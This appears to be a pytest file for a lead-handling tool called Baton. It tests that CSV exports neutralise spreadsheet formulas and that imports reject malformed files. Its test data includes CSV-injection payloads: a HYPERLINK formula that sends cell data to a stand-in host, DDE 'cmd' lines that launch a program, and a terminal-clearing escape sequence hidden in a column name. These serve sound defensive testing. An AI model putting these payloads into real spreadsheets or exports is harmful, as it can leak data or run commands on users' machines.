"""Hostile CSV, both ways: formulas in what Baton exports, broken files in what it imports.

Exports go through the two real doors marketing uses (`baton report feedback --format csv` and a
signed `/leads feedback 30d csv`, whose file is read back from the Slack emulator); imports go
through `baton leads import`. Every case runs on SQLite and PostgreSQL.
"""

from __future__ import annotations

import codecs
import csv
import io
from dataclasses import dataclass
from datetime import timedelta
from pathlib import Path

import pytest

from handlers.cli import main
from handlers.exports import FORMULA_TRIGGERS
from handlers.serve import BatonServer
from slack_emulator import MARKETER, REP_2, SALES_CHANNEL, SlackEmulator
from storage import leads as lead_store
from storage.db import Database
from tests.e2e.conftest import send_lead, settled, slack_user, wait_for_card
from tests.handlers.test_cli import baton
from tests.handlers.test_report_cli import NOW, handoff, reject

# Text a spreadsheet would run, as reps and lead sources have typed it.
FORMULAS = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"Open the lead")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=2+2",
    "=1+1\n=3+3 on a second line",
)
# Columns that carry text someone outside Baton typed.
TYPED_COLUMNS = ("external_id", "name", "company", "source", "campaign", "note")


def assert_no_formulas(text: str, typed: dict[str, str]) -> None:
    """No cell of the CSV starts a formula, and each typed cell kept its text after the mark."""
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert len(rows) == len(FORMULAS)
    for row in rows:
        assert not any(cell.startswith(FORMULA_TRIGGERS) for cell in row.values()), row
    exported = {row["external_id"]: row for row in rows}
    for external_id, original in typed.items():
        row = exported["'" + external_id]
        assert [row[column] for column in TYPED_COLUMNS[1:]] == ["'" + original] * 5


# --------------------------------------------------------------------------- export


def test_report_feedback_csv_marks_every_formula_as_text(tmp_path: Path, database_url: str) -> None:
    db = Database.from_url(database_url)
    typed = {}
    for n, formula in enumerate(FORMULAS):
        original = formula.strip()  # intake and the reject form trim what they store
        external_id = f"={n}"
        typed[external_id] = original
        lead_id = handoff(
            db,
            external_id,
            posted=NOW - timedelta(days=2),
            name=formula,
            company=formula,
            source=formula,
            campaign=formula,
        )
        reject(db, lead_id, at=NOW - timedelta(days=1), reason="other", note=formula)
    db.dispose()

    result = baton(
        "report", "feedback", "--format", "csv", cwd=tmp_path, env={"DATABASE_URL": database_url}
    )

    assert result.returncode == 0, result.stderr
    assert_no_formulas(result.stdout, typed)


def test_leads_feedback_csv_file_in_slack_marks_every_formula_as_text(
    bot: BatonServer, slack: SlackEmulator
) -> None:
    rep = slack_user(slack, bot, REP_2)
    typed = {}
    for n, formula in enumerate(FORMULAS):
        original = formula.strip()
        external_id = f"@{n}"
        typed[external_id] = original
        fields = {"name": formula, "company": formula, "source": formula, "campaign": formula}
        lead = send_lead(bot, external_id=external_id, **fields)
        card = wait_for_card(slack, lead["id"])
        rep.click(SALES_CHANNEL, card["ts"], "lead.reject")
        (modal,) = slack.open_views(REP_2)
        submitted = rep.submit_view(
            modal["id"],
            {"reason": {"reason_select": "other"}, "note": {"note_input": formula}},
        )
        assert submitted.status_code == 200 and not submitted.content
    settled(bot)

    slack_user(slack, bot, MARKETER).slash_command("/leads", "feedback 30d csv")

    (message,) = slack.wait_for(lambda: [m for m in slack.dms(MARKETER) if m.get("files")])
    content = slack.file_content(message["files"][0]["id"])
    assert content is not None
    assert_no_formulas(content.decode("utf-8"), typed)


# --------------------------------------------------------------------------- import


HEADER = "external_id,name,email,score\n"


@dataclass
class Cli:
    """`baton` run through its entry point in this process: the corpora are long."""

    capsys: pytest.CaptureFixture[str]
    code: int = 0
    out: str = ""
    err: str = ""

    def __call__(self, *args: str) -> Cli:
        self.code = main(list(args))
        self.out, self.err = self.capsys.readouterr()
        return self


@pytest.fixture
def cli(
    database_url: str,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> Cli:
    monkeypatch.chdir(tmp_path)
    for name in ("BATON_CONFIG", "SLACK_BOT_TOKEN", "SLACK_APP_TOKEN", "SLACK_API_URL"):
        monkeypatch.delenv(name, raising=False)
    monkeypatch.setenv("DATABASE_URL", database_url)
    return Cli(capsys)


def stored_leads(database_url: str) -> dict[str, str]:
    db = Database.from_url(database_url)
    with db.read() as session:
        leads = {lead.external_id: lead.name for lead in lead_store.list_leads(session)}
    db.dispose()
    return leads


def latin1_at_row(row: int) -> bytes:
    """Good UTF-8 rows, then one saved by a tool that wrote latin-1 (é as the byte 0xE9)."""
    good = "".join(f"imp-{n},Lead {n},lead{n}@example.com,50\n" for n in range(1, row))
    return (HEADER + good).encode() + f"imp-{row},Renée,renee@example.com,50\n".encode("latin-1")


# (file content, line named, words in the one line that refuses it)
UNREADABLE = {
    "latin-1 byte at row 3,000": (latin1_at_row(3000), 3001, "byte 0xE9 is not UTF-8"),
    "windows-1252 quote": (HEADER.encode() + b"q-1,\x93Ada\x94,,\n", 2, "byte 0x93"),
    "UTF-16 with its byte order mark": (
        (HEADER + "u-1,Ada,,\n").encode("utf-16"),
        1,
        "the file is UTF-16",
    ),
    "UTF-16 big-endian": (
        codecs.BOM_UTF16_BE + (HEADER + "u-1,Ada,,\n").encode("utf-16-be"),
        1,
        "the file is UTF-16",
    ),
    "UTF-16 without a byte order mark": (
        (HEADER + "u-1,Ada,,\n").encode("utf-16-le"),
        1,
        "NUL character",
    ),
    "NUL inside a row": (HEADER.encode() + b"n-1,Ada,,\nn-2,A\x00da,,\n", 3, "NUL character"),
    "UTF-8 cut short at the end": (HEADER.encode() + b"c-1,Zo\xc3", 2, "byte 0xC3"),
    "an image": (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", 1, "byte 0x89"),
    "a cell larger than CSV allows": (
        (HEADER + "big-1,Ada,,\n" + 'big-2,"' + "x" * 200_000 + '",,\n').encode(),
        3,
        "not CSV: field larger than field limit",
    ),
    "an empty file": (b"", 1, "no header row"),
    "an unknown column": (
        b"external_id,name,colour\nx-1,Ada,red\n",
        1,
        "unknown column(s): colour",
    ),
    "a blank column name": (b"external_id,name,\nx-1,Ada,\n", 1, "unknown column(s): (blank)"),
    "a column name that clears the terminal": (
        b'external_id,name,"\x1b[2J\nboo"\nx-1,Ada,\n',
        2,  # where the header ends, as a row's problem names the line the row ends on
        "unknown column(s): \\x1b[2J\\nboo;",
    ),
    "a column named twice": (b"external_id,name,name\nx-1,Ada,Bea\n", 1, "named twice: name"),
}


@pytest.mark.parametrize("case", list(UNREADABLE))
def test_an_unreadable_file_is_one_line_and_imports_nothing(
    cli: Cli, tmp_path: Path, database_url: str, case: str
) -> None:
    content, line, words = UNREADABLE[case]
    path = tmp_path / "leads.csv"
    path.write_bytes(content)

    cli("leads", "import", str(path))

    assert cli.code == 2
    assert cli.out == ""
    (message,) = cli.err.splitlines()
    assert message.startswith(f"baton: {path}:{line}: ") and words in message, message
    assert message.isprintable()
    assert message.endswith("; nothing imported")
    assert stored_leads(database_url) == {}


def test_latin1_at_row_3000_through_the_installed_command(
    tmp_path: Path, database_url: str
) -> None:
    """The issue's own case, as a user meets it: a process, its exit status, its stderr."""
    (tmp_path / "leads.csv").write_bytes(latin1_at_row(3000))

    result = baton("leads", "import", "leads.csv", cwd=tmp_path, env={"DATABASE_URL": database_url})

    assert (result.returncode, result.stdout) == (2, "")
    assert result.stderr == (
        "baton: leads.csv:3001: byte 0xE9 is not UTF-8; save the file as UTF-8; nothing imported\n"
    )
    assert stored_leads(database_url) == {}


# (file content, leads stored by external_id and name, lines reported as bad)
READABLE: dict[str, tuple[bytes, dict[str, str], list[int]]] = {
    "a UTF-8 byte order mark, as Excel saves 'CSV UTF-8'": (
        codecs.BOM_UTF8 + (HEADER + "b-1,Zoë,,\r\nb-2,Åsa,,\r\n").encode(),
        {"b-1": "Zoë", "b-2": "Åsa"},
        [],
    ),
    "lines ended by a lone carriage return": (
        (HEADER + "r-1,Ada,,\rr-2,Bea,bad-email,\rr-3,Cy,,\r").encode(),
        {"r-1": "Ada", "r-3": "Cy"},
        [3],
    ),
    "a quoted cell over three lines": (
        b'external_id,name,notes\nm-1,Ada,"one\ntwo\nthree"\nm-2,,\nm-3,Cy,\n',
        {"m-1": "Ada", "m-3": "Cy"},
        [5],
    ),
    "activities nested past any sense": (
        (HEADER[:-1] + ",activities\n" + 'd-1,Ada,,,"' + "[" * 5000 + '"\nd-2,Bea,,,\n').encode(),
        {"d-2": "Bea"},
        [2],
    ),
    "a number with more digits than Python converts": (
        (HEADER[:-1] + ",activities\n" + "e-1,Ada,,," + "1" * 5000 + "\n").encode(),
        {},
        [2],
    ),
}


@pytest.mark.parametrize("case", list(READABLE))
def test_a_readable_file_stores_good_rows_and_names_bad_ones(
    cli: Cli, tmp_path: Path, database_url: str, case: str
) -> None:
    content, leads, bad_lines = READABLE[case]
    path = tmp_path / "leads.csv"
    path.write_bytes(content)

    cli("leads", "import", str(path))

    assert cli.code == (1 if bad_lines else 0), cli.err
    assert f"{len(leads)} created, 0 already present, {len(bad_lines)} rejected" in cli.out
    assert [line.split(": ")[0] for line in cli.err.splitlines()] == [
        f"{path}:{line}" for line in bad_lines
    ]
    assert stored_leads(database_url) == leads
